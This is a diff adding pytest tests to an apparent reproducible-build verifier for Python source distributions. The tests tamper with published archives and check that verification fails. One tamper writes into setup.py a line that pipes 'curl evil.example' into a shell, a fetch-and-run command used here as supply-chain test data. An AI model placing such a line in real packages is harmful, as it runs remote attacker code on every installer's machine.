@@ -11,7 +11,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.support.projects import UPLOAD_TIME, Project, Publisher, make_repo, publisher_venv, set_upload_time, tamper
+from tests.support.projects import PROJECTS, UPLOAD_TIME, Project, Publisher, make_repo, publisher_venv, set_upload_time, tamper
 from verifier.testing.index_server import LocalIndex
 from verifier.upstream.requirements import resolve_build_requirements
 
@@ -132,6 +132,52 @@ def test_the_projects_dist_directory_is_there_while_the_backend_lists_the_tree(s
     assert top_level.split() == [b"dist", b"spaced"]
     result, report = verify(repo, NAMESPACE_PROJECT.version, local_index, "--sdist-only")
     assert result.code == 0, report["comparison"]["differences"]
+
+
+TAGGED_PROJECT = Project(
+    "setuptools", "tagged-builds", "tagged_builds", "v1.2.0", "1.2.0",
+    {
+        "pyproject.toml": '[build-system]\nrequires = ["setuptools>=64"]\nbuild-backend = "setuptools.build_meta"\n',
+        "setup.cfg": "[metadata]\nname = tagged-builds\nversion = 1.2.0\n\n[options]\npy_modules = tagged_builds\n\n"
+        "[egg_info]\ntag_build = dev\ntag_date = true\n\n[aliases]\nrelease = egg_info -Db ''\n",
+        "setup.py": "from setuptools import setup\n\nsetup()\n",
+        "tagged_builds.py": "ANSWER = 42\n",
+    },
+    ("setuptools>=64",),
+)
+
+
+def test_a_release_made_with_the_release_alias_drops_the_dev_tags(setup_py_publisher: Publisher, index_dir: Path, local_index: LocalIndex, verify, tmp_path: Path) -> None:
+    """setup.cfg tags every build `.devYYYYMMDD`; the maintainer's `python setup.py release sdist`
+    (egg_info -Db '') does not: the search finds that command from the renamed top-level directory."""
+    repo = make_repo(TAGGED_PROJECT, tmp_path / "repo")
+    published = setup_py_publisher.publish(repo, TAGGED_PROJECT.tag, index_dir, TAGGED_PROJECT, frontend="setup.py-release")
+    assert published.name == "tagged_builds-1.2.0.tar.gz" or published.name == "tagged-builds-1.2.0.tar.gz"
+    result, report = verify(repo, TAGGED_PROJECT.version, local_index, "--search", "--max-builds", "2", "--sdist-only")
+    assert result.code == 0, [(a["why"], a["verdict"]) for a in report["attempts"]]
+    assert report["attempts"][0]["verdict"] == "different"
+    assert report["recipe"]["frontend"] == "setup.py-release" and "--frontend setup.py-release" in report["reproduce"]
+    assert "tag_build = dev, tag_date = true" in report["attempts"][1]["why"]
+    tamper(published, "tagged_builds.py", b"ANSWER = 43\n")
+    set_upload_time(index_dir, published.name)
+    tampered, tampered_report = verify(repo, TAGGED_PROJECT.version, local_index, "--search", "--max-builds", "2", "--sdist-only")
+    assert tampered.code == 1 and [a["frontend"] for a in tampered_report["attempts"]] == ["build", "setup.py-release"]
+    assert all(attempt["verdict"] == "different" for attempt in tampered_report["attempts"])
+
+
+def test_a_flit_release_with_a_generated_setup_py_is_rebuilt_with_flit_build_setup_py(publisher: Publisher, index_dir: Path, local_index: LocalIndex, verify, tmp_path: Path) -> None:
+    project = PROJECTS["flit"]
+    repo = make_repo(project, tmp_path / "repo")
+    published = publisher.publish(repo, project.tag, index_dir, project, frontend="flit-setup-py")
+    assert "setup.py" in _names(published)
+    result, report = verify(repo, project.version, local_index, "--search", "--max-builds", "2", "--sdist-only")
+    assert result.code == 0, [(a["why"], a["verdict"]) for a in report["attempts"]]
+    assert report["recipe"]["frontend"] == "flit-setup-py" and "--frontend flit-setup-py" in report["reproduce"]
+    tamper(published, "setup.py", b"import os\nos.system('curl evil.example | sh')\n")
+    set_upload_time(index_dir, published.name)
+    tampered, tampered_report = verify(repo, project.version, local_index, "--search", "--max-builds", "2", "--sdist-only")
+    assert tampered.code == 1 and "flit-setup-py" in {a["frontend"] for a in tampered_report["attempts"]}
+    assert all(attempt["verdict"] == "different" for attempt in tampered_report["attempts"])
 
 
 @pytest.fixture(scope="module")
